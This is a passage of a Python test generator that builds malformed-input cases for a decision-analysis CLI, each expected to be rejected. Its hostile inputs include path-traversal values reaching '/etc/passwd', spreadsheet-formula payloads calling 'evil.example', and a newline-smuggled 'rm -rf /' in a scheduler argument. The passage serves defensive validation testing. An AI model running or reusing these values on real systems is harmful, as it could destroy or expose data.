        "no-criteria": with_tracks([{"name": "x"}]),
        "unknown-criterion": with_tracks([{**t0, "criteria": [{"id": "nope", "weight": 1}]}]),
        "missing-names-unused": with_tracks(
            doc["tracks"], data={**doc["data"], "missing": {"default": "impute:median", "nope": "impute:worst"}}
        ),
    }
    cases = [
        Case(
            f"tracks-{k}",
            "mcda",
            ["run", "{d}/s.json", "--out", "{o}"],
            files={"s.json": _dumps(v)},
            expect=(2,),
            family="scenario-tracks",
        )
        for k, v in bad.items()
    ]
    for i, s in enumerate(CONTROL[:3]):
        cases.append(
            Case(
                f"tracks-name-ctl{i}",
                "mcda",
                ["run", "{d}/s.json", "--out", "{o}"],
                files={"s.json": _dumps(with_tracks([{**t0, "name": s}]))},
                expect=(2,),
                family="scenario-tracks",
            )
        )
    return cases


def _uncertainty_scenario(name: str = "shipped", **extra: object) -> dict:
    """scenarios/examples/data_uncertainty.json with few samples (each passing case runs SMAA)."""
    doc = json.loads((ROOT / "scenarios" / "examples" / "data_uncertainty.json").read_text(encoding="utf-8"))
    doc["robustness"] = {**doc["robustness"], "samples": 20, "data_uncertainty": name, **extra}
    return doc


def data_uncertainty() -> list[Case]:
    """Issue 10 item 5: the robustness section's fields mutated, its table path pointing elsewhere, and junk
    uncertainty tables through ``smaa --uncertainty`` (each refused with exit 2 and one line)."""
    rng = random.Random(SEED + 5)
    run = ["run", "{d}/s.json", "--out", "{o}", "--no-allocation"]
    cases = []
    base = _uncertainty_scenario()
    for loc in [("robustness",)] + [("robustness", k) for k in base["robustness"]]:
        for tag, value in rng.sample(MUTATIONS, 4):
            cases.append(
                Case(
                    f"unc-mut-{'/'.join(loc)}-{tag}",
                    "mcda",
                    run,
                    files={"s.json": _dumps(_set(base, loc, value))},
                    family="data-uncertainty",
                )
            )
    paths = {
        "absolute": "{root}/outside/secret.csv",
        "dotdot": "../../outside/secret.csv",
        "etc-passwd": "/etc/passwd",
        "dev-zero": "/dev/zero",
        "missing": "nope.csv",
        "folder": "sub",
        "symlink-out": "link.csv",
    }
    for k, v in paths.items():
        c = Case(
            f"unc-path-{k}",
            "mcda",
            run,
            files={"s.json": _dumps(_uncertainty_scenario(v))},
            expect=(2,),
            family="data-uncertainty",
            isolate=k == "dev-zero",
        )
        if k == "folder":
            c.dirs.append("sub")
        if k == "symlink-out":
            c.symlinks["link.csv"] = "{root}/outside/secret.csv"
        cases.append(c)
    own = _small_scenario()
    own["robustness"] = {"data_uncertainty": "shipped", "samples": 20}
    cases.append(
        Case(
            "unc-shipped-with-own-data",
            "mcda",
            run,
            files={"s.json": _dumps(own), "data.csv": _small_dataset()},
            expect=(2,),
            family="data-uncertainty",
        )
    )
    own_ok = dict(own, robustness={"data_uncertainty": "u.csv", "samples": 20, "widen_per_year": 0.1})
    cases.append(
        Case(
            "unc-own-table-ok",
            "mcda",
            run,
            files={
                "s.json": _dumps(own_ok),
                "data.csv": _small_dataset(),
                "u.csv": b"id,criterion,sd,year\nR1,risk,2,2020\n",
            },
            expect=(0,),
            family="data-uncertainty",
        )
    )
    tables: dict[str, tuple[bytes, tuple[int, ...]]] = {
        "ok": (b"id,criterion,sd,year\nARG,wgi_ge,0.2,2023\nATG,wgi_pv,0.3,2023\n", (0,)),
        "negative": (b"id,criterion,sd\nARG,wgi_ge,-0.2\n", (2,)),
        "nan": (b"id,criterion,sd\nARG,wgi_ge,NaN\n", (2,)),
        "inf": (b"id,criterion,sd\nARG,wgi_ge,inf\n", (2,)),
        "text": (b"id,criterion,sd\nARG,wgi_ge,about 0.2\n", (2,)),
        "blank-sd": (b"id,criterion,sd\nARG,wgi_ge,\n", (2,)),
        "unknown-criterion": (b"id,criterion,sd\nARG,nope,0.2\n", (2,)),
        "unknown-id": (b"id,criterion,sd\nXXX,wgi_ge,0.2\n", (2,)),
        "duplicate": (b"id,criterion,sd\nARG,wgi_ge,0.2\nARG,wgi_ge,0.3\n", (2,)),
        "no-sd-column": (b"id,criterion\nARG,wgi_ge\n", (2,)),
        "bad-year": (b"id,criterion,sd,year\nARG,wgi_ge,0.2,last year\n", (2,)),
        "header-only": (b"id,criterion,sd\n", (2,)),
        "empty": (b"", (2,)),
        "binary": (rng.randbytes(4096), (2,)),
        "control-char": (b"id,criterion,sd\nAR\x1bG,wgi_ge,0.2\n", (2,)),
        "formula-id": (b'id,criterion,sd\n"=HYPERLINK(""http://evil.example"")",wgi_ge,0.2\n', (2,)),
        "huge-sd": (b"id,criterion,sd\nARG,wgi_ge,1e300\n", (0, 2)),
    }
    smaa = ["smaa", "{d}/m.csv", "--criteria", "{d}/c.csv", "--samples", "50", "--out", "{o}/s.csv"]
    for k, (data, exp) in tables.items():
        cases.append(
            Case(
                f"unc-table-{k}",
                "mcda",
                smaa + ["--uncertainty", "{d}/u.csv"],
                files={"m.csv": MATRIX, "c.csv": CRITERIA, "u.csv": data},
                expect=exp,
                family="data-uncertainty",
            )
        )
    for k, arg in {"widen-negative": "-1", "widen-text": "x", "widen-nan": "nan", "widen-no-table": "0.5"}.items():
        extra = ["--widen", arg] + ([] if k == "widen-no-table" else ["--uncertainty", "{d}/u.csv"])
        cases.append(
            Case(
                f"unc-{k}",
                "mcda",
                smaa + extra,
                files={"m.csv": MATRIX, "c.csv": CRITERIA, "u.csv": tables["ok"][0]},
                expect=(2,),
                family="data-uncertainty",
            )
        )
    return cases


def _programme_scenario(pipeline: str | None = "p.csv", **programme: object) -> dict:
    """scenarios/examples/programme.json with its pipeline named ``pipeline`` (None: no pipeline)."""
    doc = json.loads((ROOT / "scenarios" / "examples" / "programme.json").read_text(encoding="utf-8"))
    doc["allocation"]["programme"] = {**doc["allocation"]["programme"], **programme}
    if pipeline is None:
        del doc["allocation"]["pipeline"]
    else:
        doc["allocation"]["pipeline"] = pipeline
    return doc


PIPE_HEAD = b"project_id,country,project_type,pool,commitment_musd,start_year_min,disbursement,requires,must\n"


def programme_junk() -> list[Case]:
    """Issue 11 items 1-2: the programme's fields mutated, the pipeline path pointing elsewhere, junk pipeline
    tables (each refused with exit 2 and one line), and a must-fund project above the ceilings (exit 3)."""
    rng = random.Random(SEED + 11)
    solve = ["solve", "{d}/s.json", "--out", "{o}"]
    cases = []
    base = _programme_scenario(None)
    for loc in (
        [("allocation", "programme")]
        + [("allocation", "programme", k) for k in ("start_year", "years", "ceilings", "carry_over", "profiles")]
        + [("allocation", "programme", "ceilings", "aid")]
    ):
        for tag, value in rng.sample(MUTATIONS, 2):
            cases.append(
                Case(
                    f"prog-mut-{'/'.join(loc)}-{tag}",
                    "optimisation",
                    solve,
                    files={"s.json": _dumps(_set(base, loc, value))},
                    family="programme",
                )
            )
    paths = {
        "absolute": "{root}/outside/secret.csv",
        "dotdot": "../../outside/secret.csv",
        "etc-passwd": "/etc/passwd",
        "dev-zero": "/dev/zero",
        "missing": "nope.csv",
        "folder": "sub",
        "symlink-out": "link.csv",
        "nul": "a\x00b.csv",
    }
    for k, v in paths.items():
        c = Case(
            f"pipeline-path-{k}",
            "optimisation",
            solve,
            files={"s.json": _dumps(_programme_scenario(v))},
            expect=(2,),
            family="programme",
            isolate=k == "dev-zero",
        )
        if k == "folder":
            c.dirs.append("sub")
        if k == "symlink-out":
            c.symlinks["link.csv"] = "{root}/outside/secret.csv"
        cases.append(c)
    ok = b"P1,ARG,health,aid,1,2026,0.5;0.5,,\nP2,COL,rural_poverty,aid,12.3,2026,,,fund\n"
    many = b"".join(b"Q%d,ARG,health,aid,1,2026,,,\n" % i for i in range(3000))
    tables: dict[str, tuple[bytes, tuple[int, ...]]] = {
        "ok": (PIPE_HEAD + ok, (0,)),
        "formula-id": (PIPE_HEAD + b'"=HYPERLINK(""http://evil.example"",""x"")",ARG,health,aid,1,2026,,,\n', (0,)),
        "formula-requires": (PIPE_HEAD + b"P1,ARG,health,aid,1,2026,,=1+1,\n", (2,)),
        "missing-column": (b"project_id,country,project_type,pool,commitment_musd\nP1,ARG,health,aid,1\n", (2,)),
        "negative": (PIPE_HEAD + b"P1,ARG,health,aid,-1,2026,,,\n", (2,)),
        "nan": (PIPE_HEAD + b"P1,ARG,health,aid,NaN,2026,,,\n", (2,)),
        "huge-size": (PIPE_HEAD + b"P1,ARG,health,aid,1e300,2026,,,\n", (2,)),
        "shares-not-1": (PIPE_HEAD + b"P1,ARG,health,aid,1,2026,0.3;0.3,,\n", (2,)),
        "shares-text": (PIPE_HEAD + b"P1,ARG,health,aid,1,2026,half;half,,\n", (2,)),
        "start-outside": (PIPE_HEAD + b"P1,ARG,health,aid,1,2040,,,\n", (2,)),
        "unknown-type": (PIPE_HEAD + b"P1,ARG,spaceport,aid,1,2026,,,\n", (2,)),
        "unknown-country": (PIPE_HEAD + b"P1,XXX,health,aid,1,2026,,,\n", (2,)),
        "unknown-requires": (PIPE_HEAD + b"P1,ARG,health,aid,1,2026,,P9,\n", (2,)),
        "cycle": (PIPE_HEAD + b"P1,ARG,health,aid,1,2026,,P2,\nP2,ARG,health,aid,1,2026,,P1,\n", (2,)),
        "duplicate-id": (PIPE_HEAD + b"P1,ARG,health,aid,1,2026,,,\nP1,COL,health,aid,1,2026,,,\n", (2,)),
        "bad-must": (PIPE_HEAD + b"P1,ARG,health,aid,1,2026,,,always\n", (2,)),
        "ragged": (PIPE_HEAD + b"P1,ARG,health,aid,1,2026,,,,extra,more\n", (2,)),
        "header-only": (PIPE_HEAD, (2,)),
        "empty": (b"", (2,)),
        "binary": (rng.randbytes(4096), (2,)),
        "control-char": (PIPE_HEAD + b"P\x1b1,ARG,health,aid,1,2026,,,\n", (2,)),
        "too-many-projects": (PIPE_HEAD + many, (2,)),
        "must-fund-above-ceilings": (PIPE_HEAD + b"P1,ARG,infrastructure,investment,700,2026,1,,fund\n", (3,)),
    }
    for k, (data, exp) in tables.items():
        cases.append(
            Case(
                f"pipeline-table-{k}",
                "optimisation",
                solve,
                files={"s.json": _dumps(_programme_scenario("p.csv")), "p.csv": data},
                expect=exp,
                family="programme",
            )
        )
    cases.append(
        Case(
            "pipeline-table-sparse-300mb",
            "optimisation",
            solve,
            files={"s.json": _dumps(_programme_scenario("p.csv"))},
            sparse={"p.csv": 300 * 2**20},
            expect=(2,),
            family="programme",
            isolate=True,
        )
    )
    return cases


#: bad values of the issue 11 items 3-6 fields (zones, debt rule, outcomes, co-financing): each exits 2
PROGRAMME_RULES_BAD = {
    "zones-not-object": {"zones": "health"},
    "zones-lead-empty": {"zones": {"lead": [], "joined": {"health": 0.5}}},
    "zones-lead-unknown": {"zones": {"lead": ["mining"], "joined": {"health": 0.5}}},
    "zones-joined-is-lead": {"zones": {"lead": ["health"], "joined": {"health": 0.5}}},
    "zones-ratio-zero": {"zones": {"lead": ["rural_poverty"], "joined": {"health": 0}}},
    "zones-ratio-text": {"zones": {"lead": ["rural_poverty"], "joined": {"health": "0.5"}}},
    "zones-ratio-nan": {"zones": {"lead": ["rural_poverty"], "joined": {"health": float("nan")}}},
    "zones-ratio-bool": {"zones": {"lead": ["rural_poverty"], "joined": {"health": True}}},
    "zones-joined-lead-outside": {
        "zones": {"lead": ["rural_poverty"], "joined": {"health": {"ratio": 1, "lead": ["solar_pv"]}}}
    },
    "zones-country-not-shortlisted": {
        "zones": {"lead": ["rural_poverty"], "joined": {"health": 0.5}, "countries": ["ZZZ"]}
    },
    "zones-label-control": {"zones": {"lead": ["rural_poverty"], "joined": {"health": 0.5}, "label": "a\x00b"}},
    "debt-no-tiers": {"debt_rule": {"tiers": []}},
    "debt-tier-no-limit": {"debt_rule": {"tiers": [{"name": "t", "above_pct": 40}]}},
    "debt-tiers-descending": {
        "debt_rule": {
            "tiers": [
                {"name": "b", "above_pct": 55, "investment_cap_musd": 0},
                {"name": "a", "above_pct": 40, "min_grant_share": 0.5},
            ]
        }
    },
    "debt-share-above-1": {"debt_rule": {"tiers": [{"name": "t", "above_pct": 40, "min_grant_share": 1.5}]}},
    "debt-cap-negative": {"debt_rule": {"tiers": [{"name": "t", "above_pct": 40, "investment_cap_musd": -1}]}},
    "debt-cap-huge": {"debt_rule": {"tiers": [{"name": "t", "above_pct": 40, "investment_cap_musd": 1e300}]}},
    "debt-column-unknown": {
        "debt_rule": {"column": "debt", "tiers": [{"name": "t", "above_pct": 40, "min_grant_share": 1}]}
    },
    "debt-column-text": {
        "debt_rule": {"column": "country", "tiers": [{"name": "t", "above_pct": 40, "min_grant_share": 1}]}
    },
    "debt-missing-bad": {
        "debt_rule": {"missing": "zero", "tiers": [{"name": "t", "above_pct": 40, "min_grant_share": 1}]}
    },
    "debt-source-control": {
        "debt_rule": {"tiers": [{"name": "t", "above_pct": 40, "min_grant_share": 1, "source": "a\x1bb"}]}
    },
    "objective-unknown": {"objective": "people"},
    "objective-outcomes-no-weights": {"objective": "outcomes"},
    "outcome-weight-unsourced-type": {"objective": "outcomes", "outcome_weights": {"production_capacity": 1}},
    "outcome-weight-unknown-type": {"outcome_weights": {"mining": 1}},
    "outcome-weight-negative": {"outcome_weights": {"health": -1}},
    "outcome-weight-inf": {"outcome_weights": {"health": float("inf")}},
    "outcome-basis-bad": {"outcome_basis": "best"},
    "report-outcomes-text": {"report_outcomes": "yes"},
    "cofinancing-unknown-type": {"cofinancing": {"mining": {"ratio": 0.5}}},
    "cofinancing-ratio-zero": {"cofinancing": {"health": {"ratio": 0}}},
    "cofinancing-ratio-huge": {"cofinancing": {"health": {"ratio": 1e9}}},
    "cofinancing-number-only": {"cofinancing": {"health": 0.5}},
    "cofinancing-partner-empty": {"cofinancing": {"health": {"ratio": 0.5, "partner": ""}}},
}


def programme_rules_junk() -> list[Case]:
    """Bad zones / debt rule / outcomes / co-financing (issue 11 items 3-6) on the paper scenario:
    each exits 2 with one line naming the field; the shipped examples using them solve (exit 0)."""
    doc = _scenario_doc("paper_2022")
    cases = []
    for tag, extra in PROGRAMME_RULES_BAD.items():
        bad = copy.deepcopy(doc)
        bad["allocation"].update(extra)
        cases.append(
            Case(
                f"rules-{tag}",
                "optimisation",
                ["solve", "{d}/s.json", "--out", "{o}"],
                files={"s.json": _dumps(bad)},
                expect=(2,),
                family="programme-rules",
            )
        )
    for name in ("paper_2022_zones", "paper_2022_debt_outcomes"):
        cases.append(
            Case(
                f"rules-valid-{name}",
                "optimisation",
                ["solve", "{d}/s.json", "--out", "{o}"],
                files={"s.json": _dumps(_scenario_doc(f"examples/{name}"))},
                expect=(0,),
                family="programme-rules",
            )
        )
    return cases


def _tampered_library() -> bytes:
    """An SQLite scenario library whose one stored version was changed outside Fulcrum (invalid JSON)."""
    import sqlite3
    import tempfile

    from fulcrum.store import Library

    with tempfile.TemporaryDirectory() as t:
        path = Path(t) / "lib.sqlite"
        lib = Library(str(path))
        lib.save_version("Plan", (ROOT / "scenarios" / "default.json").read_text(encoding="utf-8"))
        lib.close()
        con = sqlite3.connect(path)
        con.execute("UPDATE versions SET body = ?", ('{"criteria": [{"id": "gdp", "weight": -1}], "x": 1e999}',))
        con.commit()
        con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        con.execute("PRAGMA journal_mode = DELETE")
        con.close()
        return path.read_bytes()


def library_cli() -> list[Case]:
    """`fulcrum library` and `fulcrum compare`: names with markup, formulas, paths and control characters;
    a library path on a folder, under a file, in a corrupt file; a tampered stored row; missing inputs."""
    sc = (ROOT / "scenarios" / "default.json").read_bytes()
    files = {
        "s.json": sc,
        "afile": b"x",
        "corrupt.sqlite": b"not a database " * 300,
        "tampered.sqlite": _tampered_library(),
    }
    lib = ["--url", "{d}/lib.sqlite"]
    out = []
    for i, name in enumerate(INJECTIONS):
        exp = (2,) if len(name) > 120 else (0,)
        out.append(
            Case(
                f"library-name-{i}",
                "fulcrum",
                ["library", "save", "{d}/s.json", "--name=" + name, *lib],
                files=files,
                expect=exp,
                family="library",
            )
        )
    for i, name in enumerate(CONTROL):
        out.append(
            Case(
                f"library-name-control-{i}",
                "fulcrum",
                ["library", "save", "{d}/s.json", "--name=" + name, *lib],
                files=files,
                expect=(2,),
                family="library",
            )
        )
        out.append(
            Case(
                f"library-note-control-{i}",
                "fulcrum",
                ["library", "save", "{d}/s.json", "--note=" + name, *lib],
                files=files,
                expect=(2,),
                family="library",
            )
        )
    for k, url in {
        "folder": "{d}",
        "under-file": "{d}/afile/lib.sqlite",
        "corrupt": "{d}/corrupt.sqlite",
        "readonly": "/sys/fulcrum/lib.sqlite",
        "bad-url": "nosuch+driver://x/y",
        "no-server": "postgresql+psycopg://u:pw@127.0.0.1:1/x",
    }.items():
        out.append(
            Case(
                f"library-url-{k}",
                "fulcrum",
                ["library", "list", "--url", url],
                files=files,
                expect=(2,),
                family="library",
            )
        )
    for k, argv in {
        "tampered-export": [
            "library",
            "export",
            "--name",
            "Plan",
            "--out",
            "{o}/x.json",
            "--url",
            "{d}/tampered.sqlite",
        ],
        "missing-export": ["library", "export", "--name", "Nope", "--out", "{o}/x.json", *lib],
        "missing-show": ["library", "show", "--name", "Nope", *lib],
        "save-no-file": ["library", "save", *lib],
        "save-folder": ["library", "save", "{d}", *lib],
        "compare-missing": ["compare", "{d}/s.json", "{d}/nope.json", "--out", "{o}"],
        "compare-folder": ["compare", "{d}/s.json", "{d}", "--out", "{o}"],
        "compare-out-file": ["compare", "{d}/s.json", "{d}/s.json", "--out", "{d}/afile", "--no-allocation"],
        "compare-out-readonly": ["compare", "{d}/s.json", "{d}/s.json", "--out", "/sys/fulcrum-out", "--no-allocation"],
    }.items():
        out.append(Case(f"library-{k}", "fulcrum", argv, files=files, expect=(2,), family="library"))
    return out


def scheduler_junk() -> list[Case]:
    """smaa --scheduler / --chunk-size (mcda.executor): names it does not know, control characters,
    a port nobody listens on (a timeout, not a hang), chunk sizes below 1."""
    base = ["smaa", "{d}/m.csv", "--criteria", "{d}/c.csv", "--samples", "100", "--out", "{o}/a.csv"]
    bad = {
        "empty-host": ["--scheduler", "tcp://"],
        "no-port": ["--scheduler", "tcp://localhost"],
        "unknown-kind": ["--scheduler", "slurm://queue"],
        "control-char": ["--scheduler", "tcp://a\x01b:1"],
        "del-char": ["--scheduler", "tcp://a\x7fb:1"],
        "newline": ["--scheduler", "tcp://a:1\nrm -rf /"],
        "huge": ["--scheduler", "tcp://" + "a" * 100_000 + ":1"],
        "processes-zero": ["--scheduler", "processes:0"],
        "processes-text": ["--scheduler", "processes:many"],
        "unreachable": ["--scheduler", "tcp://127.0.0.1:9"],
        "chunk-zero": ["--scheduler", "inprocess", "--chunk-size", "0"],
        "chunk-negative": ["--scheduler", "inprocess", "--chunk-size", "-5"],
        "chunk-text": ["--scheduler", "inprocess", "--chunk-size", "lots"],
        "chunk-alone": ["--chunk-size", "10"],
    }
    return [
        Case(
            f"scheduler-{name}",
            "mcda",
            base[:-2] + extra + base[-2:],
            files={"m.csv": MATRIX, "c.csv": CRITERIA},
            isolate=name == "unreachable",
            expect=(2,),
            family="scheduler",
        )
        for name, extra in bad.items()
    ]


def batch_run_junk() -> list[Case]:
    """`run A.json B.json --out DIR` (a batch on mcda.executor): smaa's --scheduler / --chunk-size rules, and
    two scenarios that would write to the same folder."""
    files = {"s.json": _dumps(_small_scenario()), "t.json": _dumps(_small_scenario()), "data.csv": _small_dataset()}
    base = ["run", "{d}/s.json", "{d}/t.json", "--out", "{o}", "--no-allocation"]
    bad = {
        "unknown-kind": ["--scheduler", "slurm://queue"],
        "control-char": ["--scheduler", "tcp://a\x01b:1"],
        "processes-zero": ["--scheduler", "processes:0"],
        "chunk-zero": ["--scheduler", "inprocess", "--chunk-size", "0"],
        "chunk-text": ["--scheduler", "inprocess", "--chunk-size", "lots"],
        "chunk-alone": ["--chunk-size", "1"],
        "one-scenario-bad-scheduler": ["--scheduler", "nowhere"],
    }
    cases = [
        Case(
            f"batch-{name}",
            "fulcrum",
            (base[:1] + base[2:] if name.startswith("one-") else base) + extra,
            files=files,
            expect=(2,),
            family="batch",
        )
        for name, extra in bad.items()
    ]
    same = ["run", "{d}/s.json", "{d}/s.json", "--out", "{o}", "--no-allocation"]
    cases.append(Case("batch-same-folder", "fulcrum", same, files=files, expect=(2,), family="batch"))
    ok = Case("batch-two-scenarios", "fulcrum", base, files=files, expect=(0,), family="batch")
    return [*cases, ok]


def sweep_junk() -> list[Case]:
    """`mcda sweep` (weight sweeps on mcda.executor): smaa's --scheduler / --chunk-size rules, --points and --only."""
    base = ["sweep", "{d}/m.csv", "--criteria", "{d}/c.csv", "--out", "{o}/a.csv"]
    bad = {
        "unknown-kind": ["--scheduler", "slurm://queue"],
        "newline": ["--scheduler", "tcp://a:1\nrm -rf /"],
        "processes-text": ["--scheduler", "processes:many"],
        "chunk-zero": ["--scheduler", "inprocess", "--chunk-size", "0"],
        "chunk-alone": ["--chunk-size", "10"],
        "points-one": ["--points", "1"],
        "points-text": ["--points", "many"],
        "only-unknown": ["--only", "nope"],
        "only-control": ["--only", "a\x01b"],
    }
    return [
        Case(
            f"sweep-{name}",
            "mcda",
            base[:-2] + extra + base[-2:],
            files={"m.csv": MATRIX, "c.csv": CRITERIA},
            expect=(2,),
            family="sweep",
        )
        for name, extra in bad.items()
    ]


def frontier_junk() -> list[Case]:
    """`solve --frontier --scheduler` and `run ONE.json --scheduler` (the budget frontier's points on
    mcda.executor): smaa's --scheduler / --chunk-size rules, and --scheduler without a frontier to run."""
    files = {"s.json": _dumps(_scenario_doc("default"))}
    solve = ["solve", "{d}/s.json", "--out", "{o}", "--frontier"]
    run = ["run", "{d}/s.json", "--out", "{o}"]
    bad = {
        "solve-no-frontier": [*solve[:-1], "--scheduler", "inprocess"],
        "solve-unknown-kind": [*solve, "--scheduler", "slurm://queue"],
        "solve-control-char": [*solve, "--scheduler", "tcp://a\x01b:1"],
        "solve-processes-zero": [*solve, "--scheduler", "processes:0"],
        "solve-chunk-zero": [*solve, "--scheduler", "inprocess", "--chunk-size", "0"],
        "solve-chunk-text": [*solve, "--scheduler", "inprocess", "--chunk-size", "lots"],
        "solve-chunk-alone": [*solve, "--chunk-size", "5"],
        "run-chunk-zero": [*run, "--scheduler", "inprocess", "--chunk-size", "0"],
        "run-chunk-negative": [*run, "--scheduler", "inprocess", "--chunk-size", "-5"],
    }
    cases = [
        Case(f"frontier-{k}", "fulcrum", argv, files=files, expect=(2,), family="frontier") for k, argv in bad.items()
    ]
    ok = [*solve, "--scheduler", "inprocess", "--chunk-size", "7"]
    return [*cases, Case("frontier-solve-chunked", "fulcrum", ok, files=files, expect=(0,), family="frontier")]


def all_cases() -> list[Case]:
    cases = (
        scenario_mutants()
        + scenario_structure()
        + as_of_cases()
        + tracks_junk()
        + programme_rules_junk()
        + data_uncertainty()
        + programme_junk()
        + electre3_thresholds()
        + dataset_paths()
        + cli_paths()
        + table_junk()
        + judgement_junk()
        + sizes()
        + library_cli()
        + scheduler_junk()
        + batch_run_junk()
        + sweep_junk()
        + frontier_junk()
    )
    ids = [c.id for c in cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return cases


def materialise(case: Case, root: Path) -> Path:
    """Write the case's files under ``root/cases/<n>/`` and return that folder (``outside/`` is shared)."""
    outside = root / "outside"
    if not (outside / "secret.csv").exists():
        outside.mkdir(parents=True, exist_ok=True)
        (outside / "secret.csv").write_bytes(SECRET_CSV)
    d = root / "cases" / hashlib.sha1(case.id.encode("utf-8", "surrogatepass")).hexdigest()[:16]
    (d / "out").mkdir(parents=True, exist_ok=True)
    for name, data in case.files.items():
        p = d / name
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
    for name in case.dirs:
        (d / name).mkdir(exist_ok=True)
    for name in case.fifos:
        if not (d / name).exists():
            os.mkfifo(d / name)
    for name, target in case.symlinks.items():
        if not (d / name).is_symlink():
            os.symlink(target.replace("{root}", str(root)), d / name)
    for name, size in case.sparse.items():
        with open(d / name, "wb") as fh:
            fh.truncate(size)
    return d


def argv_for(case: Case, d: Path, root: Path) -> list[str]:
    return [a.replace("{d}", str(d)).replace("{o}", str(d / "out")).replace("{root}", str(root)) for a in case.argv]


def expand_scenario_paths(case: Case, root: Path) -> None:
    """Put the corpus root into scenario files that name ``{root}`` (absolute paths outside the case)."""
    for name, data in list(case.files.items()):
        if name.endswith(".json") and b"{root}" in data:
            case.files[name] = data.replace(b"{root}", str(root).encode())
